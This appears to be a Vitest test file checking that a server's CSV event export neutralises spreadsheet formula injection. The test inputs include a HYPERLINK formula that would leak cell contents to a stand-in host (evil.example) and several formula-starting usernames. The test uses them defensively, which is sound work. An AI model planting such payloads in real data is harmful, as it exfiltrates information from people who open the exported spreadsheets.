import { describe, expect, it } from 'vitest';
import { csvCell } from '../../../server/events/csv.js';
import { testNode, USER } from '../../helpers/node.js';

/** Parses one CSV record of RFC 4180 text (quoted cells, doubled quotes). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cur += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      out.push(cur);
      cur = '';
    } else cur += c;
  }
  out.push(cur);
  return out;
}

describe('CSV export escapes formulas (issue #15.6)', () => {
  it('prefixes cells a spreadsheet would run as a formula, from an unauthenticated User-Agent and a userName', async () => {
    const t = await testNode();
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await fetch(`${t.base}/Users`, { headers: { 'user-agent': hyperlink } });
    for (const userName of ['=1+1', '+SUM(A1)', '-2+3', '@cmd']) {
      const r = await t.scim('POST', '/Users', { schemas: [USER], userName });
      expect(r.status, r.text).toBe(201);
    }
    let csv = '';
    await t.node.events.export({}, 'csv', (c) => {
      csv += c;
    });
    const rows = csv.trim().split('\n').slice(1).map(cells);
    const header = cells(csv.split('\n')[0] ?? '');
    const col = (name: string) => header.indexOf(name);
    const userNames = rows.map((r) => r[col('userName')]).filter((v) => v !== '');
    expect(userNames.sort()).toEqual(["'+SUM(A1)", "'-2+3", "'=1+1", "'@cmd"].sort());
    expect(rows.map((r) => r[col('userAgent')])).toContain(`'${hyperlink}`);
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('csvCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['plain', 'plain'],
    [-5, "'-5"],
    [null, ''],
  ])('%j becomes %j', (input, cell) => {
    expect(csvCell(input)).toBe(cell);
  });
});
